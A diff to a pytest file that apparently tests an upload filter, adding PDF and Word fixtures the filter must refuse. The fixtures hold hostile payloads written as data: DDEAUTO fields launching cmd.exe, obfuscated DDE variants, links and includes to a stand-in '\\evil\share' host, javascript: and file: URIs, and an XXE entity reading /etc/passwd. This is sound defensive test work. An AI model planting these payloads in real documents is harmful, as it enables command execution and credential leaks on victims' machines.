@@ -79,6 +79,14 @@ ACTIVE_PDFS = {
     "an escaped short name": pdf("", "<< /S /Rendition /#4a#53 (x) >>"),
     "a compressed catalog": in_object_stream(b"/AA << /WC << /S /Named /N /Print >> >>"),
     "a script in a compressed catalog": in_object_stream(b"/OpenAction << /S /#4aavaScript /JS (x) >>"),
+    "a link to a file": pdf("", "<< /Type /Annot /A << /S /URI /URI (file:///c:/windows/calc.exe) >> >>"),
+    "a link that is a script": pdf("", "<< /Type /Annot /A << /S /URI /URI (javascript:x) >> >>"),
+    "all links to a share": pdf("/URI << /Base (\\\\\\\\evil\\\\share) >>"),
+    "a part of another file": pdf("", "<< /Type /Annot /A << /S /Thread /F (\\\\\\\\evil\\\\x) /D 0 >> >>"),
+    "a stream in another file": pdf("", "<< /Length 0 /F (\\\\\\\\evil\\\\x) >>\nstream\n\nendstream"),
+    "a picture of another document": pdf(
+        "", "<< /Subtype /Form /Ref << /F (http://x) /Page 0 >> /Length 0 >>\nstream\n\nendstream"
+    ),
     "an object beside the tables": pdf().replace(b"xref\n", b"9 0 obj\n<</JS(x)>>\nendobj\nxref\n", 1),
 }
 
@@ -147,6 +155,17 @@ def relations(kind: str, target: str, mode: str = "External") -> bytes:
 RELS = "word/_rels/document.xml.rels"
 
 
+def field(*instruction: str, simple: bool = False) -> bytes:
+    """A part of a Word document with one field, its instruction in as many pieces."""
+    if simple:
+        return f"<w:hdr xmlns:w='w'><w:fldSimple w:instr='{instruction[0]}'/></w:hdr>".encode()
+    pieces = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instruction)
+    return (
+        f"<w:hdr xmlns:w='w'><w:fldChar w:fldCharType='begin'/>{pieces}"
+        "<w:fldChar w:fldCharType='separate'/><w:t>7</w:t><w:fldChar w:fldCharType='end'/></w:hdr>"
+    ).encode()
+
+
 @pytest.mark.parametrize(
     "entries",
     [
@@ -160,6 +179,12 @@ RELS = "word/_rels/document.xml.rels"
         {"word/embeddings/oleObject1.bin": b"x"},
         {"word/activeX/activeX1.xml": b"<a/>"},
         {"word/media/image1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
+        {"word/header1.xml": field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")},
+        {"word/header1.xml": field(" DD", "EAUTO", " cmd")},
+        {"word/header1.xml": field("dde cmd calc", simple=True)},
+        {"word/header1.xml": field(" INCLUDETEXT &quot;http://example.com/x.docx&quot;")},
+        {"word/header1.xml": field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png" ')},
+        {"word/header1.xml": field(" QUOTE 68 68 69 65 85 84 79 ")},
         {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
     ],
 )
@@ -173,6 +198,20 @@ def test_a_word_document_that_acts_is_refused(entries):
 def test_a_word_document_with_links_and_pictures_is_taken(target):
     entries = {RELS: relations("hyperlink", target), "word/media/image1.png": b"\x89PNG"}
     assert judged(docx(**entries), "docx") is None
+
+
+@pytest.mark.parametrize(
+    "instruction",
+    [
+        " PAGE ",
+        ' HYPERLINK "https://example.com/link" ',
+        " TOC \\o ",
+        ' INCLUDEPICTURE "https://example.com/x.png" \\* MERGEFORMATINET ',
+        " MACROBUTTON NoMacro [your name] ",
+    ],
+)
+def test_a_word_document_with_ordinary_fields_is_taken(instruction):
+    assert judged(docx(**{"word/header1.xml": field(instruction)}), "docx") is None
 
 
 def test_an_old_word_document_with_an_object_is_refused():
